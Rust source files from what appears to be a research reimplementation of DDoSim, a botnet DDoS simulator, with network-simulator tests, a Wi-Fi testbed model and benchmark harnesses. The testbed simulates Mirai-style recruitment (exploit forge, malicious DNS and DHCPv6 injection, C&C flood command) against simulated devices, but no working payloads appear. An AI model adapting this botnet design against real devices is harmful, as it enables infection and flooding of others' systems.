    star.attach(&mut sim, a, LinkConfig::default());
    let mb = star.attach(&mut sim, b, LinkConfig::default());
    let sink = sim.install_app(b, Box::new(Sink::default()));
    sim.install_app(
        a,
        Box::new(Blaster {
            dst: SocketAddr::new(mb.addr_v4, 9),
            count: 10,
            interval: Duration::from_millis(5),
            payload: 100,
            sent: 0,
        }),
    );
    // Drop every other packet at the fabric.
    let mut flip = false;
    sim.set_ingress_filter(
        star.fabric(),
        Box::new(move |_pkt, _now| {
            flip = !flip;
            if flip {
                FilterVerdict::Drop
            } else {
                FilterVerdict::Allow
            }
        }),
    );
    sim.run_until(SimTime::from_secs(2));
    let delivered = sim.app_ref::<Sink>(sink).expect("sink").packets;
    assert_eq!(delivered, 5, "alternate packets filtered in transit");
    assert_eq!(sim.stats().dropped_filtered, 5);
}

#[test]
fn link_jitter_spreads_arrival_times() {
    // With zero jitter, equally-spaced sends arrive equally spaced; with
    // jitter, inter-arrival gaps vary.
    let gaps = |jitter_ms: u64| -> Vec<i64> {
        let mut sim = Simulator::new(9);
        let a = sim.add_node("a");
        let b = sim.add_node("b");
        let ia = sim.add_iface(a, vec![v4(1)]);
        let ib = sim.add_iface(b, vec![v4(2)]);
        sim.connect_p2p(
            ia,
            ib,
            LinkConfig::new(10_000_000, Duration::from_millis(5))
                .with_jitter(Duration::from_millis(jitter_ms)),
        )
        .expect("link");
        sim.add_default_route(a, ia);
        sim.add_default_route(b, ib);
        let arrivals = std::rc::Rc::new(std::cell::RefCell::new(Vec::new()));
        let tap = std::rc::Rc::clone(&arrivals);
        sim.set_trace(Box::new(move |r| {
            if r.kind == netsim::TraceKind::Delivered {
                tap.borrow_mut().push(r.time.as_nanos() as i64);
            }
        }));
        sim.install_app(b, Box::new(Sink::default()));
        sim.install_app(
            a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 20,
                interval: Duration::from_millis(50),
                payload: 100,
                sent: 0,
            }),
        );
        sim.run_until(SimTime::from_secs(3));
        let times = arrivals.borrow();
        times.windows(2).map(|w| w[1] - w[0]).collect()
    };
    let no_jitter = gaps(0);
    let jittered = gaps(20);
    assert!(
        no_jitter.windows(2).all(|w| w[0] == w[1]),
        "no jitter => constant gaps"
    );
    assert!(
        jittered.windows(2).any(|w| w[0] != w[1]),
        "jitter => varying gaps"
    );
}

#[test]
fn node_ids_are_stable_across_growth() {
    let mut sim = Simulator::new(0);
    let ids: Vec<NodeId> = (0..100).map(|i| sim.add_node(format!("n{i}"))).collect();
    for (i, id) in ids.iter().enumerate() {
        assert_eq!(sim.node(*id).name(), format!("n{i}"));
    }
}

#[test]
fn tcp_lite_survives_a_lossy_wireless_medium() {
    use netsim::TcpEvent;
    // 20% random frame loss: the handshake and every data segment must
    // still complete via retransmission.
    struct Server {
        got: Vec<u32>,
    }
    impl Application for Server {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.tcp_listen(23).expect("listen");
        }
        fn on_tcp(&mut self, _ctx: &mut Ctx<'_>, ev: TcpEvent) {
            if let TcpEvent::Data { payload, .. } = ev {
                self.got.push(*payload.get::<u32>().expect("u32"));
            }
        }
    }
    struct Client {
        server: SocketAddr,
        to_send: u32,
    }
    impl Application for Client {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.tcp_connect(self.server).expect("connect");
        }
        fn on_tcp(&mut self, ctx: &mut Ctx<'_>, ev: TcpEvent) {
            if let TcpEvent::Connected { conn } = ev {
                for i in 0..self.to_send {
                    ctx.tcp_send(conn, Payload::new(i), 4).expect("send");
                }
            }
        }
    }
    let mut sim = Simulator::new(17);
    let chan = sim.add_wifi_channel(WifiConfig {
        rate_bps: 10_000_000,
        loss_probability: 0.2,
        ..WifiConfig::default()
    });
    let a = sim.add_node("client");
    let b = sim.add_node("server");
    let ia = sim.add_iface(a, vec![v4(1)]);
    let ib = sim.add_iface(b, vec![v4(2)]);
    sim.attach_wifi(ia, chan).expect("attach");
    sim.attach_wifi(ib, chan).expect("attach");
    sim.add_default_route(a, ia);
    sim.add_default_route(b, ib);
    let srv = sim.install_app(b, Box::new(Server { got: vec![] }));
    sim.install_app(
        a,
        Box::new(Client {
            server: SocketAddr::new(v4(2), 23),
            to_send: 30,
        }),
    );
    sim.run_until(SimTime::from_secs(60));
    let got = &sim.app_ref::<Server>(srv).expect("server").got;
    assert_eq!(got.len(), 30, "all messages delivered despite 20% loss");
    // In order, each exactly once.
    let expected: Vec<u32> = (0..30).collect();
    assert_eq!(got, &expected);
    assert!(sim.stats().dropped_wifi_loss > 0, "the medium really was lossy");
}
