//! # testbed — the hardware-reference validation scenario
//!
//! The paper validates DDoSim by replaying the same experiment on physical
//! hardware: Raspberry Pis (Devs) associated over Wi-Fi to a Netgear
//! router, with the Attacker and TServer desktops on Ethernet, and
//! Wireshark capturing at TServer (§IV-D, Fig. 4).
//!
//! We cannot own Raspberry Pis, so this crate builds the closest synthetic
//! equivalent: the **same** Attacker/Devs/TServer software stack, but on a
//! *higher-fidelity medium* — a shared Wi-Fi channel with CSMA/CA
//! contention, random wireless loss, and per-station egress shaping to the
//! paper's 100–500 kbps IoT rates — versus DDoSim's abstract
//! point-to-point star. Agreement between the two models over the paper's
//! 1–19 Dev range reproduces Fig. 4's validation claim: the abstract link
//! model tracks a contention-based medium at IoT data rates.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

use attacker::{Dhcpv6Injector, ExploitForge, FileServer, MaliciousDnsServer};
use ddosim_core::{DaemonKind, SimulationConfig, TServerSink};
use firmware::{ContainerRuntime, DnsProxyDaemon, NetMgrDaemon, ServiceCore};
use malware::{AdminConsole, CncServer};
use netsim::topology::AddrAllocator;
use netsim::{LinkConfig, NodeId, SimTime, Simulator, WifiConfig};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;
use tinyvm::catalog;

/// Configuration of the physical-testbed model.
#[derive(Debug, Clone)]
pub struct TestbedConfig {
    /// Shared scenario parameters (devs, attack, seed, ...). The abstract
    /// topology fields (`tserver_link_bps` etc.) are ignored — this model
    /// supplies its own physical topology.
    pub base: SimulationConfig,
    /// Wi-Fi PHY rate of the router's radio (802.11n-ish).
    pub wifi_rate_bps: u64,
    /// Random per-frame wireless loss (lab interference).
    pub wifi_loss_probability: f64,
    /// Ethernet rate for the Attacker and TServer desktops.
    pub ethernet_bps: u64,
}

impl Default for TestbedConfig {
    fn default() -> Self {
        TestbedConfig {
            base: SimulationConfig::default(),
            wifi_rate_bps: 72_000_000,
            wifi_loss_probability: 0.01,
            ethernet_bps: 1_000_000_000,
        }
    }
}

/// Result of one testbed run (mirrors the DDoSim metrics Fig. 4 needs).
#[derive(Debug, Clone)]
pub struct TestbedResult {
    /// Number of Devs.
    pub devs: usize,
    /// Eq. 2 average received data rate at TServer, kbps (what Wireshark
    /// measures in the paper's physical runs).
    pub avg_received_data_rate_kbps: f64,
    /// Devs recruited.
    pub infected: usize,
    /// Wi-Fi collisions observed on the medium.
    pub wifi_collisions: u64,
}

impl TestbedResult {
    /// The result as ordered JSON. Every field of a testbed run is
    /// simulation-derived (nothing host-measured), so the whole value is
    /// deterministic: two runs with one seed must serialize byte-identically.
    pub fn to_deterministic_json(&self) -> djson::Json {
        djson::Json::obj([
            ("devs", djson::Json::U64(self.devs as u64)),
            ("avg_received_data_rate_kbps", djson::Json::F64(self.avg_received_data_rate_kbps)),
            ("infected", djson::Json::U64(self.infected as u64)),
            ("wifi_collisions", djson::Json::U64(self.wifi_collisions)),
        ])
    }
}

/// Builds and runs the physical-testbed scenario.
///
/// Topology: every Pi is a station on one shared Wi-Fi channel whose
/// gateway is the router; the router connects over Ethernet to the Attacker
/// and TServer desktops. Pi egress is shaped to the configured IoT range.
///
/// # Errors
///
/// Returns a message if the embedded base configuration is invalid.
pub fn run_testbed(config: TestbedConfig) -> Result<TestbedResult, String> {
    config.base.validate()?;
    let base = &config.base;
    let mut sim = Simulator::new(base.rng.event_seed(base.seed));
    let mut build_rng = SmallRng::seed_from_u64(base.rng.world_seed(base.seed));
    let mut alloc = AddrAllocator::new();
    let mut runtime = ContainerRuntime::new();

    // The Netgear router: gateway between the Wi-Fi segment and Ethernet.
    let router = sim.add_node("router");
    sim.set_forwarding(router, true);
    sim.set_multicast_relay(router, true);

    let chan = sim.add_wifi_channel(WifiConfig {
        rate_bps: config.wifi_rate_bps,
        loss_probability: config.wifi_loss_probability,
        ..WifiConfig::default()
    });
    let (router_wifi_v4, router_wifi_v6) = alloc.next_pair();
    let router_wifi_if = sim.add_iface(router, vec![router_wifi_v4, router_wifi_v6]);
    sim.attach_wifi(router_wifi_if, chan).expect("fresh interface");
    sim.set_wifi_gateway(chan, router_wifi_if);

    // Ethernet desktops.
    let ethernet = |sim: &mut Simulator,
                        alloc: &mut AddrAllocator,
                        name: &str|
     -> (NodeId, IpAddr) {
        let node = sim.add_node(name);
        let (v4, v6) = alloc.next_pair();
        let (rv4, rv6) = alloc.next_pair();
        let iface = sim.add_iface(node, vec![v4, v6]);
        let r_iface = sim.add_iface(router, vec![rv4, rv6]);
        sim.connect_p2p(
            iface,
            r_iface,
            LinkConfig::new(config.ethernet_bps, Duration::from_micros(200))
                .with_queue_capacity(1 << 20),
        )
        .expect("fresh interfaces");
        sim.add_default_route(node, iface);
        sim.add_route(router, v4, 32, r_iface);
        sim.add_route(router, v6, 128, r_iface);
        (node, v4)
    };
    let (attacker_node, attacker_v4) = ethernet(&mut sim, &mut alloc, "attacker-desktop");
    let (tserver_node, tserver_v4) = ethernet(&mut sim, &mut alloc, "tserver-desktop");

    // TServer sink = the Wireshark capture.
    let sink = sim.install_app(tserver_node, Box::new(TServerSink::new(base.attack.port)));

    // Attacker stack — identical binaries to the DDoSim scenario.
    sim.install_app(attacker_node, Box::new(CncServer::new()));
    let cnc_addr = SocketAddr::new(attacker_v4, protocols::CNC_PORT);
    let stage1 = malware::stage1_command(attacker_v4);
    let served = vec![
        malware::infection_script(attacker_v4),
        malware::mirai_binary_file(base.arch, cnc_addr, base.flood_rate_bps, base.attack_ramp),
    ];
    sim.install_app(attacker_node, Box::new(FileServer::new(served)));
    let connman_forge = ExploitForge::new(
        Arc::new(catalog::connman_image(base.arch)),
        base.strategy,
        stage1.clone(),
    );
    let dnsmasq_forge = ExploitForge::new(
        Arc::new(catalog::dnsmasq_image(base.arch)),
        base.strategy,
        stage1,
    );
    sim.install_app(attacker_node, Box::new(MaliciousDnsServer::new(connman_forge)));
    sim.install_app(
        attacker_node,
        Box::new(Dhcpv6Injector::new(dnsmasq_forge, Duration::from_secs(5))),
    );

    // Raspberry Pis: stations on the shared channel, egress-shaped.
    let connman_image = Arc::new(catalog::connman_image(base.arch));
    let dnsmasq_image = Arc::new(catalog::dnsmasq_image(base.arch));
    for i in 0..base.devs {
        let node = sim.add_node(format!("rpi-{i}"));
        let (v4, v6) = alloc.next_pair();
        let iface = sim.add_iface(node, vec![v4, v6]);
        sim.attach_wifi(iface, chan).expect("fresh interface");
        let rate_kbps = build_rng
            .gen_range(*base.access_rate_kbps.start()..=*base.access_rate_kbps.end());
        sim.set_wifi_station_shaping(chan, iface, rate_kbps * 1000);
        sim.add_default_route(node, iface);
        sim.add_route(router, v4, 32, router_wifi_if);
        sim.add_route(router, v6, 128, router_wifi_if);

        let daemon = if build_rng.gen_bool(0.5) {
            DaemonKind::Connman
        } else {
            DaemonKind::Dnsmasq
        };
        let protections = base.protections.sample(&mut build_rng);
        let image = match daemon {
            DaemonKind::Connman => Arc::clone(&connman_image),
            DaemonKind::Dnsmasq => Arc::clone(&dnsmasq_image),
        };
        let container = runtime.create(
            format!("rpi-{i}"),
            base.arch,
            node,
            base.commands.clone(),
            ddosim_core::DEV_IMAGE_BASE_BYTES + image.size_bytes,
        );
        let core = ServiceCore::new(
            container.clone(),
            Arc::clone(&image),
            protections,
            image.name.clone(),
            &mut build_rng,
        );
        match daemon {
            DaemonKind::Connman => {
                sim.install_app(
                    node,
                    Box::new(NetMgrDaemon::new(
                        core,
                        SocketAddr::new(attacker_v4, protocols::DNS_PORT),
                        Duration::from_secs(5),
                    )),
                );
            }
            DaemonKind::Dnsmasq => {
                sim.install_app(node, Box::new(DnsProxyDaemon::new(core)));
            }
        }
    }

    // The attack command (telnet into the C&C).
    let command = format!(
        "{} {} {} {}",
        base.attack.vector,
        tserver_v4,
        base.attack.port,
        base.attack.duration.as_secs()
    );
    sim.install_app(
        attacker_node,
        Box::new(AdminConsole::single(
            attacker_v4,
            SimTime::ZERO + base.attack_at,
            command,
        )),
    );

    sim.run_until(SimTime::ZERO + base.sim_time);

    let sink_app = sim
        .app_ref::<TServerSink>(sink)
        .expect("sink app lives for the whole run");
    let avg = sink_app.average_received_data_rate_kbps(base.attack_at, base.attack.duration);
    Ok(TestbedResult {
        devs: base.devs,
        avg_received_data_rate_kbps: avg,
        infected: runtime.infected_count(),
        wifi_collisions: sim.stats().wifi_collisions,
    })
}

/// One paired point of Figure 4.
#[derive(Debug, Clone)]
pub struct Fig4Point {
    /// Number of Devs.
    pub devs: usize,
    /// DDoSim (abstract star) average received data rate, kbps.
    pub ddosim_kbps: f64,
    /// Hardware-reference (Wi-Fi contention) average, kbps.
    pub hardware_kbps: f64,
    /// Relative difference `|d − h| / max(h, 1)`.
    pub relative_error: f64,
}

/// Figure 4: DDoSim vs the hardware-reference model over the paper's
/// 1–19 Dev range. Each point averages `replicates` seeded runs of both
/// models (the paper likewise runs multiple experiments per point).
pub fn fig4_with_replicates(
    dev_counts: &[usize],
    base_seed: u64,
    replicates: u64,
) -> Vec<Fig4Point> {
    dev_counts
        .iter()
        .map(|&devs| {
            let mut d_sum = 0.0;
            let mut h_sum = 0.0;
            for rep in 0..replicates.max(1) {
                let base = SimulationConfig {
                    devs,
                    seed: base_seed + rep,
                    sim_time: Duration::from_secs(220),
                    ..SimulationConfig::default()
                };
                let ddosim = ddosim_core::Ddosim::new(base.clone())
                    .expect("valid configuration")
                    .run_to_completion();
                let hardware = run_testbed(TestbedConfig {
                    base,
                    ..TestbedConfig::default()
                })
                .expect("valid configuration");
                d_sum += ddosim.avg_received_data_rate_kbps;
                h_sum += hardware.avg_received_data_rate_kbps;
            }
            let d = d_sum / replicates.max(1) as f64;
            let h = h_sum / replicates.max(1) as f64;
            Fig4Point {
                devs,
                ddosim_kbps: d,
                hardware_kbps: h,
                relative_error: (d - h).abs() / h.max(1.0),
            }
        })
        .collect()
}

/// Figure 4 with three replicates per point.
pub fn fig4(dev_counts: &[usize], base_seed: u64) -> Vec<Fig4Point> {
    fig4_with_replicates(dev_counts, base_seed, 3)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn testbed_infects_and_measures() {
        let base = SimulationConfig {
            devs: 3,
            attack_at: Duration::from_secs(30),
            attack: ddosim_core::AttackSpec::udp_plain(Duration::from_secs(20)),
            sim_time: Duration::from_secs(60),
            attack_ramp: Duration::from_secs(2),
            seed: 5,
            ..SimulationConfig::default()
        };
        let r = run_testbed(TestbedConfig {
            base,
            ..TestbedConfig::default()
        })
        .expect("valid");
        assert_eq!(r.infected, 3, "all Pis recruited");
        assert!(r.avg_received_data_rate_kbps > 50.0, "flood measured");
    }

    #[test]
    fn contention_grows_with_station_count() {
        let run = |devs: usize| {
            let base = SimulationConfig {
                devs,
                attack_at: Duration::from_secs(30),
                attack: ddosim_core::AttackSpec::udp_plain(Duration::from_secs(30)),
                sim_time: Duration::from_secs(70),
                attack_ramp: Duration::from_secs(2),
                seed: 12,
                ..SimulationConfig::default()
            };
            run_testbed(TestbedConfig {
                base,
                ..TestbedConfig::default()
            })
            .expect("valid")
        };
        let few = run(4);
        let many = run(16);
        assert_eq!(few.infected, 4);
        assert_eq!(many.infected, 16);
        assert!(
            many.wifi_collisions > few.wifi_collisions,
            "more stations contend more: {} vs {}",
            few.wifi_collisions,
            many.wifi_collisions
        );
    }

    #[test]
    fn invalid_base_config_is_rejected() {
        let base = SimulationConfig {
            devs: 0,
            ..SimulationConfig::default()
        };
        assert!(run_testbed(TestbedConfig {
            base,
            ..TestbedConfig::default()
        })
        .is_err());
    }

    #[test]
    fn models_agree_at_small_scale() {
        for p in fig4_with_replicates(&[2, 5], 11, 1) {
            assert!(
                p.relative_error < 0.35,
                "devs={} ddosim={:.0} hardware={:.0} err={:.2}",
                p.devs,
                p.ddosim_kbps,
                p.hardware_kbps,
                p.relative_error
            );
        }
    }
}
