//! Stage-by-stage resident-memory probe for the million-device world.
//!
//! Builds the same tiered topology as perfsnap's `huge_topology` gauge, but
//! reports the `VmRSS` delta after each construction stage (nodes, access
//! links, apps) and after the run, divided by the device count. Use this to
//! find which layer owns the bytes when the 2 KiB/device gate trips.
//!
//!     cargo run --release -p ddosim-bench --example memprobe -- 100000

use netsim::topology::TieredTopology;
use netsim::{Application, Ctx, LinkConfig, Packet, Payload, SimTime, Simulator};
use std::net::SocketAddr;
use std::time::Duration;

fn status_kb(field: &str) -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with(field))?
                .split_whitespace()
                .nth(1)?
                .parse()
                .ok()
        })
        .unwrap_or(0)
}

fn rss_kb() -> u64 {
    status_kb("VmRSS:")
}

struct Sink;
impl Application for Sink {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(9).expect("bind");
    }
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _p: &Packet) {}
}

#[derive(Clone, Copy)]
struct Blaster {
    dst: SocketAddr,
    interval: Duration,
    phase: Duration,
}
impl Application for Blaster {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(1000).expect("bind");
        ctx.set_timer(self.phase, 0);
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
        let _ = ctx.udp_send(1000, self.dst, Payload::empty(), 512);
        ctx.set_timer(self.interval, 0);
    }
}

fn main() {
    let devices: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(100_000);
    let regions = (devices / 500).max(1);
    let mut last = rss_kb();
    let mut stage = |name: &str, devices: usize| {
        let now = rss_kb();
        let delta = now.saturating_sub(last);
        println!(
            "{name:<14} rss {now:>8} kB | hwm {:>8} kB | +{delta:>7} kB | {:>6} B/dev",
            status_kb("VmHWM:"),
            delta * 1024 / devices as u64
        );
        last = now;
    };
    stage("baseline", devices);

    let mut sim = Simulator::new(17);
    let mut net = TieredTopology::new(
        &mut sim,
        "net",
        regions,
        LinkConfig::new(100_000_000, Duration::from_millis(2)),
    );
    let tserver = sim.add_node("tserver");
    let mt = net.attach_backbone(
        &mut sim,
        tserver,
        LinkConfig::new(1_000_000_000, Duration::from_millis(1)),
    );
    sim.install_app(tserver, Box::new(Sink));
    let target = SocketAddr::new(mt.addr_v4, 9);
    stage("fabric", devices);

    let nodes: Vec<_> = (0..devices)
        .map(|d| sim.add_node(format!("dev{d}")))
        .collect();
    stage("nodes", devices);

    for (d, &n) in nodes.iter().enumerate() {
        net.attach_region(
            &mut sim,
            d % regions,
            n,
            LinkConfig::new(1_000_000, Duration::from_millis(5)),
        );
    }
    stage("links+routes", devices);

    for (d, &n) in nodes.iter().enumerate() {
        sim.install_app(
            n,
            Box::new(Blaster {
                dst: target,
                interval: Duration::from_millis(250),
                phase: Duration::from_micros((d as u64).wrapping_mul(241) % 250_000),
            }),
        );
    }
    stage("apps", devices);

    let start = std::time::Instant::now();
    sim.run_until(SimTime::from_secs(2));
    let wall = start.elapsed().as_secs_f64().max(1e-9);
    stage("run 2s", devices);
    let s = sim.stats();
    let packets = s.packets_sent + s.packets_delivered + s.total_dropped();
    println!(
        "packets: {packets} | {:.0} packets/s | peak {} B/dev",
        packets as f64 / wall,
        status_kb("VmHWM:") * 1024 / devices as u64
    );
}
