//! # ddosim-bench — the experiment regeneration harness
//!
//! One binary per table/figure of the paper's evaluation (§IV) plus the §V
//! use cases:
//!
//! | target | regenerates |
//! |---|---|
//! | `fig2` | Fig. 2 — avg received data rate vs #Devs × churn |
//! | `fig3` | Fig. 3 — avg received data rate vs attack duration |
//! | `table1` | Table I — memory and attack wall-clock vs #Devs |
//! | `fig4` | Fig. 4 — DDoSim vs hardware-reference validation |
//! | `infection` | R1/R2 — infection rate by protections × strategy |
//! | `ablations` | §IV-C insights — curl removal, data-rate caps |
//! | `recruitment` | memory-error vs credential-scanner baseline |
//! | `defense` | §V-A — ML classifier on extracted traffic features |
//! | `epidemic` | §V-A2 — SI-model fit of the measured infection curve |
//! | `crn` | common-random-numbers paired-sweep variance-reduction table |
//!
//! Set `DDOSIM_QUICK=1` to shrink sweeps for smoke runs. Outputs land in
//! `results/` as CSV and JSON next to a rendered text table.

#![warn(missing_docs)]

use std::fs;
use std::path::PathBuf;

/// Whether quick (smoke) mode is requested via `DDOSIM_QUICK`.
pub fn quick_mode() -> bool {
    std::env::var("DDOSIM_QUICK").map(|v| v != "0" && !v.is_empty()).unwrap_or(false)
}

/// Replicates per configuration (1 in quick mode, otherwise `full`).
pub fn replicates(full: u64) -> u64 {
    if quick_mode() {
        1
    } else {
        full
    }
}

/// The output directory (`results/` at the workspace root), created on
/// demand.
pub fn results_dir() -> PathBuf {
    let dir = workspace_root().join("results");
    let _ = fs::create_dir_all(&dir);
    dir
}

fn workspace_root() -> PathBuf {
    // CARGO_MANIFEST_DIR = crates/bench → ../..
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .and_then(std::path::Path::parent)
        .map(std::path::Path::to_path_buf)
        .unwrap_or_else(|| PathBuf::from("."))
}

/// Writes `content` under `results/<name>`, logging the path.
pub fn write_artifact(name: &str, content: &str) {
    let path = results_dir().join(name);
    match fs::write(&path, content) {
        Ok(()) => println!("wrote {}", path.display()),
        Err(e) => eprintln!("failed to write {}: {e}", path.display()),
    }
}

/// Serializes any [`djson::ToJson`] value to pretty JSON and stores it as
/// an artifact.
pub fn write_json<T: djson::ToJson + ?Sized>(name: &str, value: &T) {
    write_artifact(name, &value.to_json().to_string_pretty());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn replicates_shrink_in_quick_mode() {
        // Environment-dependent either way; exercise both arms directly.
        if quick_mode() {
            assert_eq!(replicates(5), 1);
        } else {
            assert_eq!(replicates(5), 5);
        }
    }

    #[test]
    fn results_dir_is_creatable() {
        let dir = results_dir();
        assert!(dir.ends_with("results"));
        assert!(dir.exists());
    }
}
