//! Regenerates **Figure 2**: average received data rate at TServer vs
//! number of Devs (10–150), for no/static/dynamic churn; 100-second
//! UDP-PLAIN attack (§IV-B).
//!
//! Paper shape to reproduce: a non-linear (concave) increase with Dev
//! count for every churn level, with no churn ≥ static churn ≥ dynamic
//! churn.

use ddosim_core::experiment::fig2;
use ddosim_core::report::{fmt_f, Table};

fn main() {
    let dev_counts: Vec<usize> = if ddosim_bench::quick_mode() {
        vec![10, 50, 100]
    } else {
        vec![10, 25, 50, 75, 100, 125, 150]
    };
    let reps = ddosim_bench::replicates(3);
    println!(
        "Figure 2 sweep: devs={dev_counts:?} × churn {{none, static, dynamic}} × {reps} replicates"
    );
    let points = fig2(&dev_counts, reps, 1000);

    let mut table = Table::new(
        "Figure 2 — average received data rate (kbps) at TServer",
        &["devs", "churn", "avg kbps", "mean infected"],
    );
    for p in &points {
        table.push_row(vec![
            p.devs.to_string(),
            p.churn.to_string(),
            fmt_f(p.avg_kbps, 1),
            fmt_f(p.infected, 1),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("fig2.csv", &table.to_csv());

    let runs: Vec<&ddosim_core::RunResult> = points.iter().flat_map(|p| p.runs.iter()).collect();
    ddosim_bench::write_json("fig2_runs.json", &runs);

    // Shape checks the paper reports.
    let series = |mode: churn::ChurnMode| -> Vec<f64> {
        points
            .iter()
            .filter(|p| p.churn == mode)
            .map(|p| p.avg_kbps)
            .collect()
    };
    let none = series(churn::ChurnMode::None);
    let increases = none.windows(2).all(|w| w[1] > w[0]);
    println!("monotone increase with Devs (no churn): {increases}");
    if none.len() >= 3 {
        // Per-Dev slopes so unequal x-spacing does not skew the ratio.
        let dx_first = (dev_counts[1] - dev_counts[0]) as f64;
        let n = none.len();
        let dx_last = (dev_counts[n - 1] - dev_counts[n - 2]) as f64;
        let first_slope = ((none[1] - none[0]) / dx_first).max(1e-9);
        let last_slope = (none[n - 1] - none[n - 2]) / dx_last;
        println!(
            "concavity (last-segment slope / first-segment slope, per Dev): {:.2} (<1 = non-linear flattening)",
            last_slope / first_slope
        );
    }
}
