//! Performance snapshot of the netsim hot path: the bucketed calendar
//! event queue versus the reference binary heap, plus a whole-simulation
//! saturation run. Emits `results/BENCH_netsim.json`.
//!
//! Both queue workloads replay *identical* deterministic schedules into the
//! two [`TimeOrderedQueue`] implementations, so the queue is the only
//! variable:
//!
//! * **event-queue** — a discrete-event main-loop mix: a large pending set,
//!   each pop scheduling a few follow-ups at timer-like offsets from tens
//!   of microseconds to hundreds of milliseconds.
//! * **link-saturation** — the drop-tail flood shape: many links each with
//!   a back-to-back `TxComplete`/`Deliver` pair per popped event, spaced at
//!   serialization granularity.
//!
//! Pass `--smoke` (or set `DDOSIM_BENCH_SMOKE=1`) for a seconds-fast run
//! with reduced operation counts. `--out <FILE>` redirects the JSON
//! artifact (the default is `results/BENCH_netsim.json`).
//!
//! `--compare-only <baseline.json> <current.json>` runs no benchmarks:
//! it compares two snapshots and exits nonzero if any throughput gauge
//! regressed by more than 25% — the CI regression gate.

use netsim::topology::StarTopology;
use netsim::{
    Application, Ctx, EventQueue, LinkConfig, Packet, Payload, ReferenceQueue, SimTime, Simulator,
    TimeOrderedQueue,
};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

/// Whether `--smoke` / `DDOSIM_BENCH_SMOKE=1` shrank the workloads.
fn smoke_mode() -> bool {
    std::env::args().any(|a| a == "--smoke")
        || std::env::var("DDOSIM_BENCH_SMOKE").map(|v| v == "1").unwrap_or(false)
}

/// Peak resident set size of this process in kB (`VmHWM` from
/// `/proc/self/status`), best-effort: `None` off Linux or if the field is
/// missing. The value is a process-lifetime high-water mark, so a
/// scenario's reading reflects the largest footprint up to and including
/// that scenario.
fn peak_rss_kb() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    status
        .lines()
        .find(|l| l.starts_with("VmHWM:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

/// `peak_rss_kb` as a JSON field value (`null` when unavailable).
fn peak_rss_json() -> djson::Json {
    peak_rss_kb().map_or(djson::Json::Null, djson::Json::U64)
}

/// One step of a replayable schedule: pop once, then push these offsets
/// (nanoseconds after the popped event's time).
struct Step {
    offsets: Vec<u64>,
}

/// The main-loop mix: most follow-ups land within the wheel horizon,
/// a few far beyond it (retransmission timers, churn, attack phases).
fn event_queue_schedule(steps: usize, rng: &mut SmallRng) -> Vec<Step> {
    (0..steps)
        .map(|_| {
            let fanout = rng.gen_range(0..=2usize);
            let offsets = (0..fanout)
                .map(|_| match rng.gen_range(0..10u32) {
                    0..=5 => rng.gen_range(1_000..200_000u64), // µs-scale events
                    6..=8 => rng.gen_range(200_000..50_000_000u64), // ms-scale timers
                    _ => rng.gen_range(50_000_000..2_000_000_000u64), // far timers
                })
                .collect();
            Step { offsets }
        })
        .collect()
}

/// The saturated-link shape: every pop spawns a serialization completion at
/// transmission granularity (~43 µs for a 540-byte frame at 100 Mbps) and
/// a delivery one propagation delay later.
fn link_saturation_schedule(steps: usize, rng: &mut SmallRng) -> Vec<Step> {
    (0..steps)
        .map(|_| {
            let tx = rng.gen_range(20_000..80_000u64);
            let deliver = tx + rng.gen_range(900_000..1_100_000u64);
            Step { offsets: vec![tx, deliver] }
        })
        .collect()
}

/// Replays `schedule` into `q` starting from a primed pending set; returns
/// total queue operations (pushes + pops) performed.
fn drive<Q: TimeOrderedQueue<u64>>(q: &mut Q, pending: usize, schedule: &[Step]) -> u64 {
    let mut seq = 0u64;
    let mut ops = 0u64;
    // Prime a realistic pending population spread over ~60 ms.
    let mut prime = SmallRng::seed_from_u64(0x5EED);
    for _ in 0..pending {
        q.push(SimTime::from_nanos(prime.gen_range(0..60_000_000u64)), seq, seq);
        seq += 1;
        ops += 1;
    }
    for step in schedule {
        let Some((now, _, _)) = q.pop() else { break };
        ops += 1;
        for &off in &step.offsets {
            q.push(SimTime::from_nanos(now.as_nanos().saturating_add(off)), seq, seq);
            seq += 1;
            ops += 1;
        }
    }
    // Drain what's left so both implementations do the full pop work.
    while q.pop().is_some() {
        ops += 1;
    }
    ops
}

/// Times `f` over `reps` repetitions and returns the best (least noisy)
/// ops/sec together with the op count.
fn best_rate(reps: usize, mut f: impl FnMut() -> u64) -> (u64, f64) {
    let mut best = f64::MIN;
    let mut ops = 0;
    for _ in 0..reps.max(1) {
        let start = Instant::now();
        ops = f();
        let rate = ops as f64 / start.elapsed().as_secs_f64().max(1e-9);
        best = best.max(rate);
    }
    (ops, best)
}

/// Compares the calendar queue against the reference heap on one schedule.
fn compare(name: &str, pending: usize, schedule: &[Step], reps: usize) -> djson::Json {
    // Untimed warm-up: first touches of the bucket ring and heap pay
    // allocator and frequency-scaling costs that belong to neither side.
    let warm = schedule.len().min(50_000);
    let mut q = EventQueue::new();
    drive(&mut q, pending, &schedule[..warm]);
    let mut q = ReferenceQueue::new();
    drive(&mut q, pending, &schedule[..warm]);

    let (ops, calendar) = best_rate(reps, || {
        let mut q = EventQueue::new();
        drive(&mut q, pending, schedule)
    });
    let (_, reference) = best_rate(reps, || {
        let mut q = ReferenceQueue::new();
        drive(&mut q, pending, schedule)
